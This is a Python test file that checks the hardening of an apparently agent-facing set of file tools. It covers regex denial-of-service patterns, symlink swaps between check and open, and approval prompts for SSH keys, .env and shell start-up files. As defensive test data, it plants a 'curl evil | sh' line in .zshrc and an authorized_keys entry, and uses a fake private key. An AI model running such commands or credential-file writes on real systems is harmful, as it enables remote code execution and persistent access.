"""Issue 10 on the file tools: hostile patterns, swaps at the time of use, credential files.

Swaps are made deterministic by wrapping the one function every open goes through
(``open_checked``) so the swap happens right before the open it races, never by timing.
"""

import os
import pathlib
import time

import gevent
import pytest

from term2acp.core.approvals import FOLDER_READ, OUTSIDE_EDIT
from term2acp.core.workspace import WorkspaceError, validate_cwd
from term2acp.tools import atomic, files, paths, tree
from term2acp.tools.base import ToolError
from term2acp.tools.edit import CreateFileTool, EditFileTool
from term2acp.tools.files import ListDirectoryTool, ReadFileTool
from term2acp.tools.search import GlobTool, GrepTool
from tests.support.clock import within
from tests.support.toolctx import tool_context

SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- top secret"


def write(root, rel, data):
    path = os.path.join(root, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as fh:
        fh.write(data)
    return path


def run(tool, ctx, **raw):
    """Run a call whose approval check must not ask."""
    args = tool.load(raw)
    plan = tool.approval(args, ctx)
    assert plan.request is None
    return tool.run(args, ctx, plan).text


@pytest.fixture
def outside(tmp_path):
    """A stand-in for ~/.ssh: a directory outside the root holding a key."""
    path = tmp_path / "ssh"
    path.mkdir()
    (path / "id_rsa").write_text(SECRET + "\n")
    return os.path.realpath(path)


def swap_for_link(path, target):
    """Replace directory ``path`` by a symlink to ``target`` (the old one is kept aside)."""
    os.rename(path, path + ".old")
    os.symlink(target, path)


def swap_before(monkeypatch, module, expected, action):
    """Run ``action()`` once, right before ``module`` opens ``expected``."""
    real, done = module.open_checked, []

    def wrapped(path, flags, dir_fd=None):
        if path == expected and not done:
            done.append(path)
            action()
        return real(path, flags, dir_fd)
    monkeypatch.setattr(module, "open_checked", wrapped)
    return done


# ---------------------------------------------------------------- hostile patterns
def bounded(seconds, call):
    start = time.monotonic()
    result = call()
    assert time.monotonic() - start < within(seconds)
    return result


def test_grep_catastrophic_pattern_on_a_long_line_returns_at_once(ctx, root):
    write(root, "long.txt", "a" * 200_000 + "\n")
    text = bounded(2, lambda: run(GrepTool(), ctx, pattern="(a+)+b"))
    assert text == "No matches for (a+)+b in .."
    assert bounded(2, lambda: run(GrepTool(), ctx, pattern="(a+)+$")).startswith("long.txt:1: aaa")


@pytest.mark.parametrize("pattern, named", [
    (r"(a)\1", r"a backreference (\1)"),
    ("(?=a)a", "lookahead"),
    ("(?<!x)a", "lookbehind"),
    ("a*+", "possessive quantifier"),
    (r"a\Z", r"\z for the end"),
])
def test_grep_unsupported_syntax_fails_naming_it(ctx, root, pattern, named):
    write(root, "a.txt", "aa\n")
    with pytest.raises(ToolError, match="RE2 syntax") as info:
        run(GrepTool(), ctx, pattern=pattern)
    assert named in str(info.value) and "fixed_strings" in str(info.value)


def test_grep_matches_never_span_lines_and_keep_line_numbers(ctx, root):
    write(root, "a.txt", "one\ntwo x\n\nthree x\n" + "pad\n" * 40_000 + "last x\r\n")
    assert run(GrepTool(), ctx, pattern=r"one\s+two") == "No matches for one\\s+two in .."
    assert run(GrepTool(), ctx, pattern=r"x\r?$").splitlines() == [
        "a.txt:2: two x", "a.txt:4: three x", "a.txt:40005: last x"]


def test_glob_with_many_stars_over_a_long_name_returns_at_once(ctx, root):
    name = "a" * 250
    write(root, name, "")
    pattern = "*a" * 40 + "*b"
    assert bounded(2, lambda: run(GlobTool(), ctx, pattern=pattern)) == \
        f"No paths match {pattern} in .."
    assert run(GlobTool(), ctx, pattern="*a" * 40) == name


def test_hostile_gitignore_line_then_an_ordinary_grep(ctx, root):
    write(root, ".gitignore", "*a" * 60 + "*b\n" + "(((\n[z-a]\n" + "ignored.txt\n")
    write(root, "a" * 250, "TODO long\n")
    write(root, "ignored.txt", "TODO hidden\n")
    text = bounded(2, lambda: run(GrepTool(), ctx, pattern="TODO"))
    assert text == "a" * 250 + ":1: TODO long"


def test_a_huge_gitignore_is_bounded(ctx, root):
    lines = [f"*x{i}*y{i}*z" for i in range(patterns_max_rules() + 500)]
    write(root, ".gitignore", "\n".join(lines) + "\nlast.txt\n")
    write(root, "x1qy1qz", "hit\n")
    write(root, "last.txt", "hit\n")
    # rules past the cap do not count (last.txt stays visible), the early ones do
    assert bounded(5, lambda: run(GrepTool(), ctx, pattern="hit")) == "last.txt:1: hit"


def patterns_max_rules():
    from term2acp.tools.patterns import MAX_RULES
    return MAX_RULES


def test_bad_glob_is_a_tool_error(ctx):
    with pytest.raises(ToolError, match="invalid glob"):
        run(GlobTool(), ctx, pattern="[z-a]")
    with pytest.raises(ToolError, match="at most 1024"):
        run(GlobTool(), ctx, pattern="a" * 2000)


def test_glob_and_gitignore_match_non_utf8_names(ctx, root):
    os.close(os.open(os.fsencode(root) + b"/caf\xe9.txt", os.O_CREAT | os.O_WRONLY))
    assert run(GlobTool(), ctx, pattern="caf?.txt") == "caf\udce9.txt"
    write(root, ".gitignore", "caf*\n")
    assert run(GlobTool(), ctx, pattern="*.txt") == "No paths match *.txt in .."


# ---------------------------------------------------------------- pacing and bounds
def test_grep_yields_to_the_hub_and_dies_promptly_when_killed(ctx, root, monkeypatch):
    monkeypatch.setattr(tree, "SLICE", 0.0)  # yield at every step: deterministic
    for i in range(20):
        write(root, f"d/f{i}.txt", "x" * 100 + "\n" * 1000)
    ran = []
    worker = gevent.spawn(run, GrepTool(), ctx, pattern="(x+x+)+y")
    while not ran and not worker.dead:
        gevent.sleep(0)
        ran.append(1)
    assert ran and not worker.dead  # another greenlet ran while grep was working
    worker.kill(block=True, timeout=1)
    assert worker.dead and isinstance(worker.value, gevent.GreenletExit)  # not a result


def test_grep_refuses_a_pattern_too_complex_to_bound(ctx, root):
    write(root, "a.txt", "x\n")
    with pytest.raises(ToolError, match=r"too complex to search in bounded time \(it compiles "
                                        r"to \d+ RE2 instructions; the limit is 4000\)"):
        run(GrepTool(), ctx, pattern=r"[a-z]{1000}" * 5)


def test_worst_case_program_on_a_long_line_keeps_hub_slices_short(ctx, root):
    """A program near the cap that defeats RE2's DFA costs ~35 ns per byte and instruction:
    grep slices the work (windows of long lines) so the hub is never held for long."""
    with open(os.path.join(root, "q.txt"), "w") as fh:
        fh.write("q" * ((2 << 20) - 1) + "\n")
    stamps = []

    def ticker():
        while True:
            stamps.append(time.monotonic())
            gevent.sleep(0.002)
    watcher = gevent.spawn(ticker)
    try:
        text = run(GrepTool(), ctx, pattern=r"\w{1000}x\w{300}0")
    finally:
        watcher.kill()
    assert text == r"No matches for \w{1000}x\w{300}0 in .."
    gaps = [b - a for a, b in zip(stamps, stamps[1:])]
    # timers (and I/O) ran throughout: no stall near the length of the whole search (a
    # short search may see one preemption of a loaded machine: the suite's slack for it)
    whole = stamps[-1] - stamps[0]
    assert len(stamps) > 2 and max(gaps) < max(whole / 2, within(0.25))


def test_long_lines_are_searched_in_overlapping_windows(ctx, root):
    write(root, "a.txt", "x" * 500_000 + "needle" + "y" * 500_000 + "\nnext needle$\n")
    assert run(GrepTool(), ctx, pattern=r"x{100}needle")[:13] == "a.txt:1: xxxx"
    assert run(GrepTool(), ctx, pattern=r"^needle").startswith("No matches")  # anchors see the line
    assert run(GrepTool(), ctx, pattern=r"needle\$$").splitlines() == ["a.txt:2: next needle$"]


def test_walk_fds_are_closed_after_early_stops_and_kills(ctx, root, monkeypatch):
    for i in range(30):
        write(root, f"a/b/c/f{i}.txt", "hit\n" * 20)
    def open_fds():
        gevent.idle()  # gevent defers os.close to the hub
        return len(os.listdir("/proc/self/fd"))
    before = open_fds()
    assert "[showing lines 1-200; more follow" in run(GrepTool(), ctx, pattern="hit")
    assert open_fds() == before
    monkeypatch.setattr(tree, "SLICE", 0.0)
    worker = gevent.spawn(run, GrepTool(), ctx, pattern="nothing")
    while len(os.listdir("/proc/self/fd")) < before + 4:
        gevent.idle()  # until the walk is inside a/b/c, holding four directory fds
        assert not worker.dead
    worker.kill(block=True, timeout=1)
    assert isinstance(worker.value, gevent.GreenletExit)
    assert open_fds() == before


def test_search_stops_at_its_time_budget(ctx, root, monkeypatch):
    monkeypatch.setattr(tree, "SEARCH_SECONDS", 0.0)
    for i in range(5):
        write(root, f"f{i}.txt", "hit\n")
    assert "[search stopped after 0 s" in run(GrepTool(), ctx, pattern="hit")
    assert "[search stopped after 0 s" in run(GlobTool(), ctx, pattern="*")


# ---------------------------------------------------------------- swaps at the time of use
def test_walk_never_enters_a_directory_swapped_for_a_symlink(ctx, root, outside):
    write(root, "a/inside.txt", "x")
    walk = tree.TreeWalk(root, tree.Ignorer())
    seen = []
    for visit in walk:
        seen.append(os.path.relpath(visit.path, root))
        if seen[-1] == "a":  # yielded, not yet entered: swap it now
            swap_for_link(os.path.join(root, "a"), outside)
    assert seen == ["a"] and walk.changed == 1


def test_grep_file_whose_directory_is_swapped_just_before_the_open(ctx, root, outside,
                                                                   monkeypatch):
    write(root, "a/id_rsa", "inside key\n")
    target = os.path.join(root, "a", "id_rsa")
    done = swap_before(monkeypatch, tree, target,
                       lambda: swap_for_link(os.path.join(root, "a"), outside))
    text = run(GrepTool(), ctx, pattern="key")
    assert done and "secret" not in text and "inside key" not in text
    assert "[skipped 1 entries that changed while being opened" in text


def test_grep_directory_swapped_just_before_it_is_entered(ctx, root, outside, monkeypatch):
    write(root, "a/b/f.txt", "key here\n")
    done = swap_before(monkeypatch, tree, os.path.join(root, "a", "b"),
                       lambda: swap_for_link(os.path.join(root, "a", "b"), outside))
    text = run(GrepTool(), ctx, pattern="key")
    assert done and "secret" not in text and "changed while being opened" in text


def test_grep_top_swapped_between_check_and_open(ctx, root, outside, monkeypatch):
    write(root, "a/f.txt", "key here\n")
    top = os.path.join(root, "a")
    swap_before(monkeypatch, tree, top, lambda: swap_for_link(top, outside))
    text = run(GrepTool(), ctx, pattern="key", path="a")
    assert "secret" not in text and "changed while being opened" in text


def test_list_directory_swapped_between_check_and_open(ctx, root, outside, monkeypatch):
    write(root, "a/f.txt", "x")
    top = os.path.join(root, "a")
    done = swap_before(monkeypatch, files, top, lambda: swap_for_link(top, outside))
    with pytest.raises(ToolError, match="changed while being opened|symlink") as info:
        run(ListDirectoryTool(), ctx, path="a")
    assert done and "id_rsa" not in str(info.value)


def test_list_directory_parent_swapped_between_check_and_open(ctx, root, outside,
                                                               monkeypatch):
    os.makedirs(os.path.join(outside, "sub"))
    write(outside, "sub/id_ecdsa", SECRET)
    write(root, "a/sub/f.txt", "x")
    top = os.path.join(root, "a", "sub")
    swap_before(monkeypatch, files, top,
                lambda: swap_for_link(os.path.join(root, "a"), outside))
    with pytest.raises(ToolError, match="changed while being opened") as info:
        run(ListDirectoryTool(), ctx, path="a/sub")  # the final name is no symlink
    assert "id_ecdsa" not in str(info.value)


def test_read_file_parent_swapped_between_check_and_open(ctx, root, outside, monkeypatch):
    write(root, "a/id_rsa", "inside\n")
    target = os.path.join(root, "a", "id_rsa")
    swap_before(monkeypatch, files, target,
                lambda: swap_for_link(os.path.join(root, "a"), outside))
    with pytest.raises(ToolError, match="changed while being opened") as info:
        run(ReadFileTool(), ctx, path="a/id_rsa")
    assert "secret" not in str(info.value)


def test_create_file_parent_swapped_creates_nothing_outside(ctx, root, outside, monkeypatch):
    os.mkdir(os.path.join(root, "a"))
    base = os.path.join(root, "a")
    swap_before(monkeypatch, atomic, base, lambda: swap_for_link(base, outside))
    with pytest.raises(ToolError, match="swapped in"):
        run(CreateFileTool(), ctx, path="a/new/deeper/x.txt", content="planted\n")
    assert sorted(os.listdir(outside)) == ["id_rsa"]  # no directory made, nothing written


def test_one_time_of_use_check_per_open(ctx, root, monkeypatch):
    write(root, ".gitignore", "skip/\n")
    write(root, "a/b/f.txt", "hit\n")
    write(root, "a/g.txt", "hit\n")
    write(root, "skip/h.txt", "hit\n")
    checks, opens = [], []
    real_same, real_open = paths.same_place, os.open
    monkeypatch.setattr(paths, "same_place", lambda fd, p: checks.append(p) or real_same(fd, p))
    def counted_open(*args, **kwargs):
        fd = real_open(*args, **kwargs)
        opens.append(fd)
        return fd
    monkeypatch.setattr(paths.os, "open", counted_open)
    assert run(GrepTool(), ctx, pattern="hit") == "a/b/f.txt:1: hit\na/g.txt:1: hit"
    assert len(checks) == len(opens)
    assert sorted(os.path.relpath(p, root) for p in checks) == sorted([
        ".", ".gitignore", ".gitignore", "a", "a/b", "a/b/f.txt", "a/g.txt"])  # rules, then grep


def test_grep_of_one_file_opens_and_checks_it_once(ctx, root, monkeypatch):
    write(root, "one.txt", "hit\n")
    checks = []
    real_same = paths.same_place
    monkeypatch.setattr(paths, "same_place", lambda fd, p: checks.append(p) or real_same(fd, p))
    assert run(GrepTool(), ctx, pattern="hit", path="one.txt") == "one.txt:1: hit"
    assert checks == [os.path.join(root, "one.txt")]


# ---------------------------------------------------------------- credential files
@pytest.fixture
def home_ctx(tmp_path, monkeypatch):
    """A workspace root that is the user's home, holding credentials and start-up files."""
    home = tmp_path / "user"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    real = os.path.realpath(home)
    write(real, ".ssh/id_rsa", SECRET + "\n")
    write(real, ".bashrc", "export TOKEN=abc\n")
    write(real, "project/.env", "API_KEY=secret\n")
    write(real, "project/main.py", "print('hi')\n")
    return tool_context(real, tmp_path)


@pytest.mark.parametrize("tool, raw, variant", [
    (ReadFileTool(), {"path": ".ssh/id_rsa"}, FOLDER_READ),
    (ReadFileTool(), {"path": "project/.env"}, FOLDER_READ),
    (ListDirectoryTool(), {"path": ".ssh"}, FOLDER_READ),
    (GrepTool(), {"pattern": "KEY", "path": ".ssh"}, FOLDER_READ),
    (GlobTool(), {"pattern": "*", "path": ".ssh"}, FOLDER_READ),
    (EditFileTool(), {"path": ".bashrc", "edits": [{"old_text": "abc", "new_text": "x"}]},
     OUTSIDE_EDIT),
    (CreateFileTool(), {"path": ".ssh/authorized_keys", "content": "ssh-rsa AAA"}, OUTSIDE_EDIT),
    (CreateFileTool(), {"path": ".zshrc", "content": "curl evil | sh"}, OUTSIDE_EDIT),
])
def test_credential_files_ask_inside_the_root_even_with_a_grant(home_ctx, tool, raw, variant):
    home_ctx.access.allow_read_folder(home_ctx.root)
    home_ctx.access.allow_edit_folder(home_ctx.root)
    args = tool.load(raw)
    request = tool.approval(args, home_ctx).request
    assert request is not None and request.variant == variant
    assert "credential or shell start-up file" in request.title
    fresh = tool_context(home_ctx.root, pathlib.Path(home_ctx.root).parent)
    fresh.access.allow_read_folder(home_ctx.root)
    with pytest.raises(ToolError, match="credential or shell start-up file") as info:
        tool.run(args, fresh)  # run() without an approved check refuses
    assert "secret" not in str(info.value)
    assert not os.path.exists(os.path.join(home_ctx.root, ".ssh/authorized_keys"))
    assert open(os.path.join(home_ctx.root, ".bashrc")).read() == "export TOKEN=abc\n"


def test_approved_credential_read_runs_once(home_ctx):
    tool = ReadFileTool()
    args = tool.load({"path": ".ssh/id_rsa"})
    plan = tool.approval(args, home_ctx)
    assert plan.request is not None  # the user is asked; say allow once
    assert SECRET in tool.run(args, home_ctx, plan).text


def test_walks_in_the_home_skip_credentials_with_a_note(home_ctx):
    text = run(GrepTool(), home_ctx, pattern="secret|TOKEN|print")
    assert text.splitlines()[0] == "project/main.py:1: print('hi')"
    assert "[skipped 3 credential or shell start-up files" in text
    assert SECRET not in text and "API_KEY" not in text and "TOKEN" not in text
    listed = run(GlobTool(), home_ctx, pattern="**/*")
    assert listed.splitlines()[:2] == ["project/", "project/main.py"]
    assert "id_rsa" not in listed and ".env" not in listed.split("\n[")[0]
    assert ".ssh/" in run(ListDirectoryTool(), home_ctx)  # names of the home itself: no ask


# ---------------------------------------------------------------- workspace roots
def test_root_slash_is_refused():
    with pytest.raises(WorkspaceError, match=r"workspace root cannot be /"):
        validate_cwd("/")
    with pytest.raises(WorkspaceError, match=r"workspace root cannot be /"):
        validate_cwd("/tmp/..")


def test_non_utf8_root_is_refused_precisely(tmp_path):
    raw = os.fsencode(tmp_path) + b"/caf\xe9"
    os.mkdir(raw)
    with pytest.raises(WorkspaceError, match=r"caf\\xe9' contains bytes that are not valid UTF-8"):
        validate_cwd(os.fsdecode(raw))
